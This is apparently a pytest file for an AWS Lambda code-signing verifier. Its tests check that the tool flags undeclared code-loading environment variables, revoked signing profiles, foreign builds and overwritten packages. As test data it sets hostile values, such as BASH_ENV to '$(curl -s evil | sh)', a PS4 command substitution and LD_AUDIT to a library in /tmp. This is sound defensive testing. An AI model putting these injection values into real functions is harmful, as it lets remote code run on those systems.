"""The red-team review's cases (issue 18) against the local AWS over real HTTP, through both
``verify`` and ``audit``: each way of getting a clean pass while other code runs now fails,
each false alarm passes with at most a warning, and each bad input is one line and exit 2.

The property, not just the examples: every code path is held to exactly what was declared
(verify) and to the code-loading rule (the audit), whatever the variable; revocation is judged
for the job's own profile version; earlier versions must be this function's own builds.
"""

from __future__ import annotations

import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from localaws.testing import LocalAws
from localaws.world import World, make_zip, unique
from tests.verifier.deployed import Deployed, deploy, sign_source, write_source
from verifier.checks.environment import CODE_LOADING_ENVIRONMENT
from verifier.cli import app
from verifier.contract.manifest import environment_digest
from verifier.evidence.signature import TAIL_BYTES, hashes_from_tail

runner = CliRunner()
pytestmark = [pytest.mark.local_aws(max_attempts=2), pytest.mark.usefixtures("local_env")]

#: The variables the review found missing from the old list, and one no list would hold.
MISSED = [
    ("BASH_ENV", "$(curl -s evil | sh)"),
    ("ENV", "/tmp/x"),
    ("PYTHONUSERBASE", "/tmp/site"),
    ("PYTHONPYCACHEPREFIX", "/tmp/pyc"),
    ("PYTHONWARNINGS", "ignore::evil.Category"),
    ("LD_AUDIT", "/tmp/audit.so"),
    ("GCONV_PATH", "/tmp/gconv"),
    ("SOME_FUTURE_HOOK", "/tmp/hook"),
]


def run(*args: str) -> tuple[int, dict[str, Any], str]:
    result = runner.invoke(app, [*args, "--format", "json"])
    assert "Traceback" not in result.stderr, result.stderr
    document = json.loads(result.stdout) if result.stdout.strip() else {}
    return result.exit_code, document, result.stderr


def verify(deployed: Deployed, *extra: str) -> tuple[int, dict[str, Any], str]:
    return run(
        "verify",
        "--outputs",
        str(deployed.outputs_file),
        "--lock",
        str(deployed.lock_file),
        "--source",
        str(deployed.checkout),
        *extra,
    )


def audit(deployed: Deployed, *extra: str) -> tuple[int, dict[str, Any], str]:
    return run(
        "audit",
        "--trust",
        deployed.profile.version_arn,
        "--function-prefix",
        deployed.function_name,
        "--no-cache",
        *extra,
    )


def not_passing(document: dict[str, Any]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for item in document.get("checks", []):
        if item["status"] != "pass":
            found.setdefault(item["id"], set()).add(item["status"])
    return found


def findings(document: dict[str, Any], check_id: str) -> list[dict[str, Any]]:
    return [c for c in document["checks"] if c["id"] == check_id]


def publish_with(deployed: Deployed, alias: str = "live", **configuration: Any) -> str:
    """A published version whose configuration differs, behind an alias; ``$LATEST`` is put
    back as it was, so only the version carries the change."""
    lam = deployed.world.clients.lambda_
    name = deployed.function_name
    before = lam.get_function_configuration(FunctionName=name)
    lam.update_function_configuration(FunctionName=name, **configuration)
    version = lam.publish_version(FunctionName=name)["Version"]
    restore = {"Environment": before.get("Environment") or {"Variables": {}}}
    if "Handler" in configuration:
        restore["Handler"] = before["Handler"]
    if "Runtime" in configuration:
        restore["Runtime"] = before["Runtime"]
    if "FileSystemConfigs" in configuration:
        restore["FileSystemConfigs"] = []
    lam.update_function_configuration(FunctionName=name, **restore)
    lam.create_alias(FunctionName=name, Name=alias, FunctionVersion=version)
    return str(version)


# --- 1. the environment: exactly as declared -------------------------------------------------


@pytest.mark.parametrize(("name", "value"), MISSED, ids=[n for n, _ in MISSED])
def test_1_any_undeclared_variable_in_a_published_version_fails(
    world: World, tmp_path: Path, name: str, value: str
) -> None:
    deployed = deploy(world, tmp_path, environment={"LOG_LEVEL": "info"})
    version = publish_with(deployed, Environment={"Variables": {"LOG_LEVEL": "info", name: value}})
    code, document, _ = verify(deployed)
    assert code == 1
    failed = not_passing(document)
    assert failed["function.environment"] == {"fail"}
    assert failed["aliases.signed"] == {"fail"}
    environment = findings(document, "function.environment")
    on_version = [f for f in environment if f["code_path"] == version]
    assert on_version and on_version[0]["status"] == "fail"
    assert f"{name} (not declared)" in on_version[0]["actual"]
    assert [f["status"] for f in environment if f["code_path"] == "$LATEST"] == ["pass"]
    assert value not in json.dumps(document), "a value is never reported"
    if name in CODE_LOADING_ENVIRONMENT:
        assert "makes the runtime load code" in on_version[0]["actual"]
        # The audit has no declaration: the code-loading rule fails it on that version.
        code, document, _ = audit(deployed)
        assert code == 1
        assert {
            (f["code_path"], f["status"]) for f in findings(document, "function.environment")
        } >= {(version, "fail")}
        assert value not in json.dumps(document)


def test_1b_shell_options_that_run_ps4_fail_in_verify_and_audit(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path)
    publish_with(deployed, Environment={"Variables": {"SHELLOPTS": "xtrace", "PS4": "$(id)"}})
    code, document, _ = verify(deployed)
    assert code == 1 and not_passing(document)["function.environment"] == {"fail"}
    code, document, _ = audit(deployed)
    assert code == 1
    failed = [f for f in findings(document, "function.environment") if f["status"] == "fail"]
    assert "SHELLOPTS" in failed[0]["actual"] and "PS4" in failed[0]["actual"]


def test_1c_a_declared_value_changed_and_a_declared_variable_removed_fail(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path, environment={"MODE": "s3cret-one", "LEVEL": "2"})
    deployed.world.clients.lambda_.update_function_configuration(
        FunctionName=deployed.function_name, Environment={"Variables": {"MODE": "s3cret-two"}}
    )
    code, document, _ = verify(deployed)
    assert code == 1
    (latest,) = [
        f for f in findings(document, "function.environment") if f["code_path"] == "$LATEST"
    ]
    assert "MODE (another value than declared)" in latest["actual"]
    assert "LEVEL (declared but not set)" in latest["actual"]
    assert "s3cret" not in json.dumps(document)


def test_4_audit_fails_an_exec_wrapper_in_a_published_version_unless_allowed(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path)
    publish_with(deployed, Environment={"Variables": {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/wrapper"}})
    code, document, _ = audit(deployed)
    assert code == 1
    assert not_passing(document)["function.environment"] == {"fail"}
    assert not_passing(document)["aliases.signed"] == {"fail"}
    code, document, _ = audit(deployed, "--allow-env", "AWS_LAMBDA_EXEC_WRAPPER")
    assert code == 0, not_passing(document)


def test_4b_allow_env_refuses_a_name_that_is_not_code_loading(deployed: Deployed) -> None:
    code, _, stderr = audit(deployed, "--allow-env", "LOG_LEVEL")
    assert code == 2
    assert stderr.count("\n") == 1 and "--allow-env LOG_LEVEL" in stderr


# --- 2. revocation by profile version ---------------------------------------------------------


def test_2_a_revoked_pinned_version_stays_revoked_after_the_name_gets_a_new_version(
    endpoint: str, world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path)
    signer = world.clients.signer
    profile = deployed.profile
    signer.revoke_signing_profile(
        profileName=profile.name,
        profileVersion=profile.version,
        reason="key compromised",
        effectiveTime=time.time() - 86400 * 30,
    )
    LocalAws(endpoint_url=endpoint, ca_bundle=None).purge_signing_profile(profile.name)
    signer.put_signing_profile(
        profileName=profile.name,
        platformId="AWSLambda-SHA384-ECDSA",
        signatureValidityPeriod={"value": 365, "type": "DAYS"},
    )
    code, document, _ = verify(deployed)
    assert code == 1
    revocation = findings(document, "profile.revocation")
    assert revocation[0]["status"] == "fail" and "revoked" in revocation[0]["actual"]
    assert f"version {profile.version}" in revocation[0]["actual"]
    code, document, _ = audit(deployed)
    assert code == 1
    assert "revoked" in " ".join(f["actual"] for f in findings(document, "code.signed"))


def test_2b_a_revoked_newer_version_does_not_fail_the_pinned_versions_code(
    endpoint: str, world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path)
    signer = world.clients.signer
    profile = deployed.profile
    signer.cancel_signing_profile(profileName=profile.name)
    LocalAws(endpoint_url=endpoint, ca_bundle=None).purge_signing_profile(profile.name)
    newer = signer.put_signing_profile(
        profileName=profile.name,
        platformId="AWSLambda-SHA384-ECDSA",
        signatureValidityPeriod={"value": 365, "type": "DAYS"},
    )
    signer.revoke_signing_profile(
        profileName=profile.name,
        profileVersion=newer["profileVersion"],
        reason="rotated away",
        effectiveTime=time.time() - 86400 * 400,
    )
    code, document, _ = verify(deployed)
    assert code == 0, not_passing(document)
    (revocation,) = findings(document, "profile.revocation")
    assert revocation["status"] == "pass" and "not revoked" in revocation["actual"]
    code, document, _ = audit(deployed)
    assert code == 0, not_passing(document)


def test_2c_a_revoked_certificate_of_a_previous_versions_signature_fails(
    endpoint: str, world: World, tmp_path: Path
) -> None:
    """GetRevocationStatus answers with whatever it was asked about that is revoked: a
    certificate hash of the signature is as revoked as the profile version itself."""
    deployed = deploy(world, tmp_path)
    signer = world.clients.signer
    profile = deployed.profile
    signer.cancel_signing_profile(profileName=profile.name)
    local = LocalAws(endpoint_url=endpoint, ca_bundle=None)
    local.purge_signing_profile(profile.name)
    signer.put_signing_profile(
        profileName=profile.name,
        platformId="AWSLambda-SHA384-ECDSA",
        signatureValidityPeriod={"value": 365, "type": "DAYS"},
    )
    code, document, _ = verify(deployed)
    assert code == 0, not_passing(document)
    signed = deployed.build.signed
    body = world.clients.s3.get_object(Bucket=signed["bucketName"], Key=signed["key"])["Body"]
    leaf, _root = hashes_from_tail(body.read()[-TAIL_BYTES:])
    local.revoke_certificate(leaf)  # the root is every profile's on this server: not revoked
    code, document, _ = verify(deployed)
    assert code == 1
    (revocation,) = findings(document, "profile.revocation")
    assert revocation["status"] == "fail" and f"reports revoked: {leaf}" in revocation["actual"]
    code, document, _ = audit(deployed)
    assert code == 1 and not_passing(document)["code.signed"] == {"fail"}


# --- 3. earlier versions: only this function's own builds -------------------------------------


def test_3_an_earlier_version_running_another_functions_build_fails(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path, allow_earlier_versions=True)
    # Another function's build, signed by the same pinned profile (its own unsigned prefix).
    write_source(
        tmp_path / "other" / "functions" / "audit", {"handler.py": "def handler(e, c): 1\n"}
    )
    other = sign_source(
        world, deployed.profile, tmp_path / "other", "functions/audit", tmp_path, "unsigned/audit"
    )
    signed = other.signed
    lam = world.clients.lambda_
    lam.update_function_code(
        FunctionName=deployed.function_name, S3Bucket=signed["bucketName"], S3Key=signed["key"]
    )
    version = lam.publish_version(FunctionName=deployed.function_name)["Version"]
    current = deployed.build.signed
    lam.update_function_code(
        FunctionName=deployed.function_name, S3Bucket=current["bucketName"], S3Key=current["key"]
    )
    code, document, _ = verify(deployed)
    assert code == 1
    (found,) = [f for f in findings(document, "versions.signed") if f["code_path"] == version]
    assert found["status"] == "fail" and found["reason"] == "foreign_build"
    assert "not a build of this function" in found["actual"]


def test_3b_a_layers_package_as_a_version_with_another_handler_and_runtime_fails(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path, allow_earlier_versions=True)
    layer = deployed.layer.signed
    lam = world.clients.lambda_
    name = deployed.function_name
    lam.update_function_code(FunctionName=name, S3Bucket=layer["bucketName"], S3Key=layer["key"])
    lam.update_function_configuration(
        FunctionName=name, Handler="python.shared_util.helper", Runtime="python3.13"
    )
    version = lam.publish_version(FunctionName=name)["Version"]
    code, document, _ = verify(deployed)
    assert code == 1
    statuses = {(f["id"], f["status"]) for f in document["checks"] if f["code_path"] == version}
    assert ("versions.signed", "fail") in statuses
    assert ("function.configuration", "fail") in statuses


def test_3c_an_own_earlier_build_with_the_declared_configuration_warns(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path, allow_earlier_versions=True)
    lam = world.clients.lambda_
    version = lam.publish_version(FunctionName=deployed.function_name)["Version"]
    # A new build of the same function (same unsigned prefix), deployed as $LATEST.
    write_source(
        deployed.checkout / "functions" / "hello",
        {"handler.py": "import shared_util\n\n\ndef handler(e, c):\n    return 'v2'\n"},
    )
    key_prefix = deployed.manifest.functions[0].unsigned_key.rpartition("/")[0]
    rebuilt = sign_source(
        world, deployed.profile, deployed.checkout, "functions/hello", tmp_path, key_prefix
    )
    signed = rebuilt.signed
    lam.update_function_code(
        FunctionName=deployed.function_name, S3Bucket=signed["bucketName"], S3Key=signed["key"]
    )
    deployed.redeclare(rebuilt)
    code, document, _ = verify(deployed)
    assert code == 0, not_passing(document)
    (found,) = [f for f in findings(document, "versions.signed") if f["code_path"] == version]
    assert found["status"] == "warn" and found["reason"] == "earlier_build"


# --- 5. false alarms: identical re-uploads ---------------------------------------------------


def test_3d_a_declaration_changed_in_the_outputs_only_fails_lock_anchor(
    world: World, tmp_path: Path
) -> None:
    """Terraform state is not a trust root, for declarations too: BASH_ENV set on ``$LATEST``
    and a published version, and declared (with its digest) in the outputs only, fails
    ``lock.anchor`` (the lock pins each function's declaration); so does
    ``allow_earlier_versions`` flipped in the outputs only."""
    deployed = deploy(world, tmp_path, environment={"LOG_LEVEL": "info"})
    attack = {"LOG_LEVEL": "info", "BASH_ENV": "$(curl -s evil | sh)"}
    lam = world.clients.lambda_
    lam.update_function_configuration(
        FunctionName=deployed.function_name, Environment={"Variables": attack}
    )
    lam.publish_version(FunctionName=deployed.function_name)
    function = replace(
        deployed.manifest.functions[0],
        environment=tuple(sorted((n, environment_digest(v)) for n, v in attack.items())),
    )
    deployed.write_outputs(replace(deployed.manifest, functions=(function,)))
    code, document, _ = verify(deployed)
    assert code == 1
    (anchor,) = findings(document, "lock.anchor")
    assert anchor["status"] == "fail" and anchor["reason"] == "lock_mismatch"
    assert "hello.environment: outputs declare BASH_ENV, the lock does not" in anchor["actual"]
    assert "curl" not in json.dumps(document), "a value is never reported"

    flipped = replace(deployed.manifest.functions[0], allow_earlier_versions=True)
    deployed.write_outputs(replace(deployed.manifest, functions=(flipped,)))
    code, document, _ = verify(deployed)
    assert code == 1
    (anchor,) = findings(document, "lock.anchor")
    assert anchor["status"] == "fail"
    assert "hello.allow_earlier_versions: outputs true, lock false" in anchor["actual"]


def test_3e_a_lock_that_predates_pinned_declarations_warns_and_repair_refuses(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path)
    deployed.write_lock(declarations=None)
    code, document, _ = verify(deployed)
    assert code == 0
    (anchor,) = findings(document, "lock.anchor")
    assert anchor["status"] == "warn" and anchor["reason"] == "declarations_unpinned"
    assert "make lock" in anchor["actual"]
    lam = world.clients.lambda_
    lam.update_function_configuration(FunctionName=deployed.function_name, Handler="x.y")
    result = runner.invoke(
        app,
        ["repair", "--outputs", str(deployed.outputs_file), "--lock", str(deployed.lock_file)],
    )
    assert result.exit_code == 1, result.output
    assert "the lock does not pin the functions' declarations" in result.stderr
    config = lam.get_function_configuration(FunctionName=deployed.function_name)
    assert config["Handler"] == "x.y", "nothing was changed"


def test_5_six_identical_reuploads_of_the_signed_key_only_warn(deployed: Deployed) -> None:
    s3 = deployed.world.clients.s3
    signed = deployed.build.signed
    data = s3.get_object(Bucket=signed["bucketName"], Key=signed["key"])["Body"].read()
    for _ in range(6):
        s3.put_object(Bucket=signed["bucketName"], Key=signed["key"], Body=data)
    code, document, _ = verify(deployed)
    assert code == 0, not_passing(document)
    (found,) = findings(document, "object.not_overwritten")
    assert (
        found["status"] == "warn" and "6 later version(s) with the signed bytes" in found["actual"]
    )


def test_5b_one_overwrite_among_identical_reuploads_fails_naming_it(deployed: Deployed) -> None:
    s3 = deployed.world.clients.s3
    signed = deployed.build.signed
    data = s3.get_object(Bucket=signed["bucketName"], Key=signed["key"])["Body"].read()
    for _ in range(3):
        s3.put_object(Bucket=signed["bucketName"], Key=signed["key"], Body=data)
    evil = s3.put_object(Bucket=signed["bucketName"], Key=signed["key"], Body=make_zip("evil"))
    code, document, _ = verify(deployed)
    assert code == 1
    (found,) = findings(document, "object.not_overwritten")
    assert found["status"] == "fail" and evil["VersionId"] in found["actual"]


def test_6c_a_signed_version_not_written_by_the_job_fails(deployed: Deployed) -> None:
    """Every version of the signed key deleted and a package uploaded in its place: the key's
    oldest version is no longer the one Signer wrote while the job ran."""
    s3 = deployed.world.clients.s3
    signed = deployed.build.signed
    data = s3.get_object(Bucket=signed["bucketName"], Key=signed["key"])["Body"].read()
    versions = s3.list_object_versions(Bucket=signed["bucketName"], Prefix=signed["key"])
    for version in versions.get("Versions", []):
        s3.delete_object(
            Bucket=signed["bucketName"], Key=signed["key"], VersionId=version["VersionId"]
        )
    time.sleep(3)  # past the clock tolerance of the job's run
    s3.put_object(Bucket=signed["bucketName"], Key=signed["key"], Body=data)
    code, document, _ = verify(deployed)
    assert code == 1
    (found,) = findings(document, "object.not_overwritten")
    assert found["status"] == "fail" and found["reason"] == "not_written_by_job"


# --- 7. the blast radius, by bytes --------------------------------------------------------------


def test_7_job_id_blast_radius_includes_the_same_bytes_deployed_without_validation(
    world: World, tmp_path: Path
) -> None:
    deployed = deploy(world, tmp_path)
    untrusted = world.profile({"value": 365, "type": "DAYS"})
    warn = world.csc("Warn", [untrusted.version_arn])
    signed = deployed.build.signed
    copy = world.create_function(
        {"S3Bucket": signed["bucketName"], "S3Key": signed["key"]},
        warn,
        FunctionName=f"{deployed.function_name}-copy",
    )
    assert "SigningJobArn" not in copy  # under Warn, the mismatched publisher deploys unsigned
    code, document, _ = audit(deployed, "--job-id", deployed.job_id)
    assert code == 1
    names = {c["function"] for c in document["checks"]}
    assert copy["FunctionName"] in names and deployed.function_name in names
    (copied,) = [
        c for c in findings(document, "code.signed") if c["function"] == copy["FunctionName"]
    ]
    assert copied["status"] == "fail" and "no SigningJobArn" in copied["actual"]


# --- file systems ------------------------------------------------------------------------------


def test_file_systems_fail_verify_and_warn_in_the_audit(world: World, tmp_path: Path) -> None:
    deployed = deploy(world, tmp_path)
    access_point = (
        "arn:aws:elasticfilesystem:us-east-1:123456789012:access-point/fsap-0123456789abcdef0"
    )
    world.clients.lambda_.update_function_configuration(
        FunctionName=deployed.function_name,
        FileSystemConfigs=[{"Arn": access_point, "LocalMountPath": "/mnt/code"}],
    )
    code, document, _ = verify(deployed)
    assert code == 1 and not_passing(document) == {"function.file_systems": {"fail"}}
    code, document, _ = audit(deployed)
    assert code == 0 and not_passing(document) == {"function.file_systems": {"warn"}}
    # The way back: repair detaches what was never declared, and verify passes again.
    code, document, stderr = run(
        "repair", "--outputs", str(deployed.outputs_file), "--lock", str(deployed.lock_file)
    )
    assert code == 0, stderr
    assert "FileSystemConfigs as declared" in stderr
    assert not world.clients.lambda_.get_function_configuration(
        FunctionName=deployed.function_name
    ).get("FileSystemConfigs")


# --- 6. bad inputs -------------------------------------------------------------------------------


def test_6_a_lock_saved_with_a_byte_order_mark_is_read(deployed: Deployed) -> None:
    deployed.lock_file.write_bytes(b"\xef\xbb\xbf" + deployed.lock_file.read_bytes())
    code, document, _ = verify(deployed)
    assert code == 0, not_passing(document)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"[" * 100_000, "deeper than 64 levels"),
        (b"{" + b" " * (11 * 1024 * 1024) + b"}", "over the 10 MB"),
        ('{"s": "caf\xe9"}'.encode("latin-1"), "is not UTF-8"),
        (b'{"s": "\\ud800"}', "a lone UTF-16 surrogate"),
        (b'{"s": 1, "s": 2}', "given twice"),
    ],
    ids=["nested", "huge", "latin-1", "lone-surrogate", "duplicate-key"],
)
def test_6b_outputs_and_lock_files_that_no_reader_should_hold_are_one_line_and_exit_2(
    deployed: Deployed, tmp_path: Path, content: bytes, expected: str
) -> None:
    bad = tmp_path / "bad.json"
    bad.write_bytes(content)
    for args in (
        ["verify", "--outputs", str(bad), "--lock", str(deployed.lock_file)],
        ["verify", "--outputs", str(deployed.outputs_file), "--lock", str(bad)],
        ["audit", "--lock", str(bad)],
    ):
        result = runner.invoke(app, args)
        assert result.exit_code == 2, (args, result.stderr)
        assert "Traceback" not in result.stderr
        assert (
            result.stderr.count("\n") == 1
            and expected in result.stderr
            and str(bad) in result.stderr
        )


def test_unknown_profile_version_arn_in_audit_is_exit_2(deployed: Deployed) -> None:
    typo = deployed.profile.version_arn[:-4] + "ZZZZ"
    code, _, stderr = audit(deployed, "--profile-version-arn", typo)
    assert code == 2 and "--profile-version-arn" in stderr and typo in stderr
    code, _, stderr = audit(deployed, "--job-id", unique("no-such-job-"))
    assert code == 2 and "--job-id" in stderr
